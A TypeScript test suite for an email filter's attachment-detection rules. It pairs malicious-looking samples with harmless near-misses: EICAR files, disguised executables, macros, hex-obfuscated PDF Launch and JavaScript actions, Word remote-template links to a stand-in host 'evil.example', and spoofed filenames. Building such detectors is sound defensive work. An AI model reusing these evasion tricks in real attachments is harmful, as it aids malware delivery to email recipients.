import { type Difference, type RuleCase, testRules } from '../rule-cases.ts'
import { attachmentNameRules } from './attachment-name-rules.ts'
import { attachmentRules } from './attachment-rules.ts'
import { compoundFile, discImage, eicarFile, type Packed, windowsProgram, zipOf } from './files/specimens.cases.ts'

const wrapped = (base64: string): string => base64.replace(/.{76}/g, '$&\r\n')
const attached = (name: string, bytes: Buffer | string, type = 'application/octet-stream'): Difference => ({
  lines: 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n',
  body:
    `--b\r\n\r\nHello.\r\n--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; ${name}\r\n` +
    `Content-Transfer-Encoding: base64\r\n\r\n${wrapped(Buffer.from(bytes).toString('base64'))}\r\n--b--\r\n`,
})
const file = (name: string, bytes: Buffer | string, type?: string): Difference => attached(`filename="${name}"`, bytes, type)
const text = Buffer.from('Just some text.\r\n')
const entry = (name: string, data: Buffer = text): Packed => ({ name, data })
const large = (mark: string): Buffer => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(400_000, 0x20), Buffer.from(mark)])
const documentWith = (name: string, data: Buffer | string = text): Buffer =>
  zipOf([entry('[Content_Types].xml'), entry('word/document.xml'), { name, data: Buffer.from(data), isDeflated: data !== text }])
const documentBehind = (picture: Buffer, relations: string): Buffer =>
  zipOf([
    entry('[Content_Types].xml'),
    entry('word/media/image1.png', picture),
    { name: 'word/_rels/settings.xml.rels', data: Buffer.from(relations), isDeflated: true },
  ])
const relation = (type: string, target: string): string =>
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ' +
  `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const noise = Buffer.alloc(300_000)
for (let at = 0; at < noise.length; at++) noise[at] = (at * 2_654_435_761) >>> 24

const cases: readonly RuleCase[] = [
  ['spam.virus-test-file', file('a.bin', eicarFile), file('a.bin', eicarFile.subarray(1))],
  [
    'spam.virus-test-file',
    { body: `${eicarFile.toString('latin1')}\r\n` },
    { body: 'The EICAR-STANDARD-ANTIVIRUS-TEST-FILE is harmless.\r\n' },
  ],
  ['spam.virus-test-file', file('a.zip', zipOf([entry('a.com', eicarFile)])), file('a.zip', zipOf([entry('a.com')]))],
  [
    'spam.virus-test-file',
    file('a.zip', zipOf([{ name: 'b.zip', data: zipOf([entry('a.com', eicarFile)]), isDeflated: true }])),
    file('a.zip', zipOf([{ name: 'b.zip', data: zipOf([entry('a.com')]), isDeflated: true }])),
  ],
  ['spam.attachment-program', file('report.pdf', windowsProgram()), file('report.pdf', 'MZ is how programs begin.')],
  ['spam.attachment-program', file('x', Buffer.from('7f454c460201', 'hex')), file('x', Buffer.from('7f454c', 'hex'))],
  ['spam.attachment-program', file('x', Buffer.from('cafebabe00000002', 'hex')), file('x', Buffer.from('cafeba', 'hex'))],
  ['spam.attachment-program', file('x', Buffer.from('cafebabe00000034', 'hex')), file('x', Buffer.from('cafed00d00000034', 'hex'))],
  [
    'spam.attachment-program',
    file('setup.bin', compoundFile(Buffer.from('84100c0000000000c000000000000046', 'hex'))),
    file('letter.doc', compoundFile('WordDocument')),
  ],
  [
    'spam.attachment-program',
    file('tool.jar', zipOf([entry('META-INF/MANIFEST.MF'), entry('A.class')])),
    file('pack.zip', zipOf([entry('META-INF/MANIFEST.MF'), entry('A.txt')])),
  ],
  ['spam.attachment-shortcut', file('a.txt', Buffer.from('4c0000000114020000', 'hex')), file('a.txt', 'L')],
  ['spam.attachment-disk-image', file('a.iso', discImage()), file('a.img.txt', 'CD001')],
  ['spam.attachment-disk-image', file('a.bin', 'conectix'), file('a.bin', 'connectix')],
  ['spam.attachment-disk-image', file('a.img', Buffer.alloc(2_000)), file('a.img', '')],
  ['spam.attachment-macros', file('a.doc', compoundFile('_VBA_PROJECT')), file('a.doc', compoundFile('WordDocument'))],
  [
    'spam.attachment-macros',
    file('a.docx', documentWith('word/vbaProject.bin')),
    file('a.docx', documentWith('word/vbaProject.bin.rels')),
  ],
  // The directory of an archive is at its end, beyond what is read of its beginning.
  [
    'spam.attachment-macros',
    file('a.xlsm', zipOf([entry('xl/a.bin', noise), entry('xl/vbaProject.bin')])),
    file('a.xlsx', zipOf([entry('xl/a.bin', noise), entry('xl/workbook.xml')])),
  ],
  ['spam.attachment-object', file('a.doc', '{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'), file('a.rtf', '{\\rtf1 objdata}')],
  ['spam.attachment-object', file('a.xls', compoundFile('\u0001Ole10Native')), file('a.xls', compoundFile('Workbook'))],
  ['spam.attachment-pdf-launch', file('a.pdf', '%PDF-1.4\n<< /S /Launch /F (x) >>'), file('a.pdf', '%PDF-1.4\n(Launch) /Launched')],
  ['spam.attachment-pdf-launch', file('a.pdf', large('<</S/Launch>>')), file('a.pdf', large('<</S/URI>>'))],
  // What is written in a text that is not compressed is no action.
  ['spam.attachment-pdf-launch', file('a.pdf', '%PDF-1.4\n<</S\n/Launch>>'), file('a.pdf', '%PDF-1.4\n(Kick-off/Launch event) Tj')],
  [
    'spam.attachment-pdf-script',
    file('a.pdf', '%PDF-1.4\n<</Names<</JavaScript 5 0 R>>>>'),
    file('a.pdf', '%PDF-1.4\n(HTML/JS and /JavaScript) Tj'),
  ],
  ['spam.attachment-pdf-script', file('a.pdf', '%PDF-1.4\n<</JS 7 0 R>>'), file('a.pdf', '%PDF-1.4\n(TypeScript/JS: 7 hours) Tj')],
  ['spam.attachment-pdf-script', file('a.pdf', '%PDF-1.4\n<< /S/JavaScript/JS(x) >>'), file('a.pdf', '%PDF-1.4\n<< /JSON 1 >>')],
  [
    'spam.attachment-pdf-script',
    file('a.pdf', '%PDF-1.4\n<< /S/J#61vaScript/#4aS(x) >>'),
    file('a.pdf', '%PDF-1.4\n<< /J#61vaScripts 1 /#4aSON 2 >> (/J#61vaScript)'),
  ],
  ['spam.attachment-pdf-launch', file('a.pdf', large('<</#53/#4C#61#75nch>>')), file('a.pdf', large('<</S/#4C#61#75nchpad>>'))],
  [
    'spam.attachment-remote-template',
    file('a.docx', documentWith('word/_rels/settings.xml.rels', relation('attachedTemplate', 'http://evil.example/t.dotm'))),
    file('a.docx', documentWith('word/_rels/settings.xml.rels', relation('attachedTemplate', 'file:///C:\\t.dotm'))),
  ],
  [
    'spam.attachment-remote-template',
    file('a.docx', documentWith('word/_rels/document.xml.rels', relation('oleObject', 'mhtml:https://evil.example/x!x'))),
    file('a.docx', documentWith('word/_rels/document.xml.rels', relation('hyperlink', 'https://www.example.com/'))),
  ],
  [
    'spam.attachment-remote-template',
    file(
      'a.docx',
      documentWith('word/_rels/s.rels', relation('attachedTemplate', '&#104;ttp&#x3a;//evil.example/').replaceAll('"', "'")),
    ),
    file('a.docx', documentWith('word/settings.xml', relation('attachedTemplate', 'http://evil.example/'))),
  ],
  [
    'spam.attachment-remote-template',
    file(
      'a.docx',
      documentWith('word/_rels/s.rels', Buffer.from(`\ufeff${relation('attachedTemplate', 'ftp://evil.example/')}`, 'utf16le')),
    ),
    file('a.docx', documentWith('word/_rels/s.rels', Buffer.from(`\ufeff${relation('attachedTemplate', 'a.dotx')}`, 'utf16le'))),
  ],
  // Behind a picture, beyond what is read of the beginning.
  [
    'spam.attachment-remote-template',
    file('a.docx', documentBehind(noise, relation('attachedTemplate', 'https://evil.example/'))),
    file('a.docx', documentBehind(noise, relation('attachedTemplate', '\\\\files\\t.dotx'))),
  ],
  [
    'spam.attachment-remote-template',
    file('a.doc', '{\\rtf1{\\*\\template http://evil.example/t.dotm}}'),
    file('a.doc', '{\\rtf1{\\*\\template C:\\\\t.dotm} http://example.com}'),
  ],
  ['spam.attachment-active-page', file('a.html', '<html><script>x</script>'), file('a.html', '<html><p>script')],
  ['spam.attachment-active-page', file('a.svg', '<svg onload="x()"></svg>'), file('a.svg', '<svg><g fill="red"/></svg>')],
  // The form of a text that begins with a script by its own rules.
  [
    'spam.attachment-active-page',
    attached('filename=a.html', '<script>x</script>', 'text/x-amp-html'),
    attached('x=y', '<script>x</script>', 'text/x-amp-html'),
  ],
  [
    'spam.attachment-active-page',
    file('a.htm', '<meta http-equiv=refresh content="0;url=x">'),
    file('a.txt', '<meta http-equiv=refresh>'),
  ],
  [
    'spam.attachment-active-page',
    file('a.html', Buffer.from('\ufeff<html><script>x</script>', 'utf16le')),
    file('a.html', Buffer.from('\ufeff<html><p>x', 'utf16le')),
  ],
  ['spam.attachment-form', file('a.html', '<form action=x><input type=password></form>'), file('a.html', '<p>form')],
  [
    'spam.attachment-encrypted',
    file('a.zip', zipOf([{ name: 'a.txt', data: text, isEncrypted: true }])),
    file('a.zip', zipOf([{ name: 'a.txt', data: text, isDeflated: true }])),
  ],
  ['spam.attachment-encrypted', file('a.docx', compoundFile('EncryptedPackage')), file('a.docx', documentWith('EncryptedPackage'))],
  [
    'spam.attachment-encrypted',
    file('a.rar', Buffer.from(`526172211a0700${'cf90738000'}`.padEnd(80, '0'), 'hex')),
    file('a.rar', Buffer.from(`526172211a0700${'cf90730000'}`.padEnd(80, '0'), 'hex')),
  ],
  [
    'spam.attachment-encrypted',
    file('a.rar', Buffer.from('526172211a0701000000000021040000', 'hex')),
    file('a.rar', Buffer.from('526172211a070100000000000b010000', 'hex')),
  ],
  ['spam.attachment-packed-program', file('a.zip', zipOf([entry('in/a.js')])), file('a.zip', zipOf([entry('in/a.json')]))],
  [
    'spam.attachment-packed-program',
    file('a.zip', zipOf([entry('a.txt'), entry('b.exe')], true)),
    file('a.docx', documentWith('word/a.js')),
  ],
  ['spam.attachment-packed-archive', file('a.zip', zipOf([entry('b.rar')])), file('a.docx', documentWith('word/b.zip'))],
  ['spam.attachment-packed-archive', file('a.zip', zipOf([entry('disk.iso')])), file('a.zip', zipOf([entry('disk.txt')]))],
]

const nameCases: readonly RuleCase[] = [
  ['spam.attachment-double-extension', file('invoice.pdf.exe', text), file('invoice.v2.exe', text)],
  ['spam.attachment-double-extension', file('photo.jpg          .scr', text), file('photo.jpg          .png', text)],
  ['spam.attachment-double-extension', file('a.txt.vbs. ', text), file('setup.exe.txt', text)],
  [
    'spam.attachment-name-turned',
    attached("filename*=utf-8''ann%E2%80%AEcod.exe", text),
    attached("filename*=utf-8''%D7%90%E2%80%8F.txt", text),
  ],
  ['spam.attachment-refused-type', file('tool.EXE', text), file('tool.exe.txt', text)],
  ['spam.attachment-refused-type', file('a.ps1', text), file('a.ps', text)],
  ['spam.attachment-misnamed', file('a.pdf', 'x'), file('a.pdf', '\r\n%PDF-1.4')],
  ['spam.attachment-misnamed', file('a.docx', '{\\rtf1}'), file('a.doc', '{\\rtf1}')],
  ['spam.attachment-misnamed', file('a.png', '%PDF-1.4'), file('a.png', Buffer.from('ffd8ffe0', 'hex'))],
  ['spam.attachment-misnamed', file('a.zip', 'x'), file('a.xls', 'a\tb\r\n')],
]

testRules(attachmentRules, cases)
testRules(attachmentNameRules, nameCases)
